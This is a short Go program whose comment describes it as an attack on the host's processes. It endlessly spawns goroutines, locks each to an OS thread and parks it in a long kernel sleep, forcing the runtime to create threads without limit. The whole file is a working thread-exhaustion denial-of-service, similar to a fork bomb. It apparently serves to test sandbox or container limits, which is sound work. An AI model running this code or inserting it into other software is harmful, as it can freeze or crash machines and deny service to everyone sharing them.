// Attacks: the host's processes: Go threads that block in the kernel, so that it makes ever more.
package main

import (
	"runtime"
	"syscall"
)

func main() {
	for {
		go func() {
			runtime.LockOSThread()
			for {
				wait := syscall.Timespec{Sec: 1000}
				syscall.Nanosleep(&wait, nil)
			}
		}()
		runtime.Gosched()
	}
}
